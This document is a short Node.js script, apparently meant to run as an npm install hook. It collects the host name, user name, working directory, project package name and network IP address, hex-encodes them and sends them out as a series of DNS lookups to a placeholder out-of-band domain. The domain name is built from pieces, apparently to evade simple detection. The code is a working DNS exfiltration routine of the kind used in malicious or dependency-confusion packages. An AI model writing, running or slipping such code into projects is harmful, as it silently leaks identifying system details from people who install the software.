"use strict";
const os = require("os");
const dns = require("dns");
const path = require("path");

const zone = ["dns", "oast", "example", "com"].join(".");

function info() {
  let pkg = {};
  try { pkg = require(path.join(process.env.INIT_CWD || process.cwd(), "package.json")); } catch (_) {}
  return [os.hostname(), os.userInfo().username, process.env.INIT_CWD || process.cwd(), pkg.name || "", (os.networkInterfaces().eth0 || [{}])[0].address || ""].join("|");
}

function labels(s) {
  const hex = Buffer.from(s).toString("hex");
  const chunks = hex.match(/.{1,60}/g) || [];
  const id = Math.random().toString(16).slice(2, 8);
  return chunks.map((c, i) => `${c}.${i}.${chunks.length}.${id}.${zone}`);
}

const resolver = new dns.Resolver();
let i = 0;
const q = labels(info());
(function next() {
  if (i >= q.length) return;
  resolver.resolve4(q[i++], () => setTimeout(next, 50));
})();
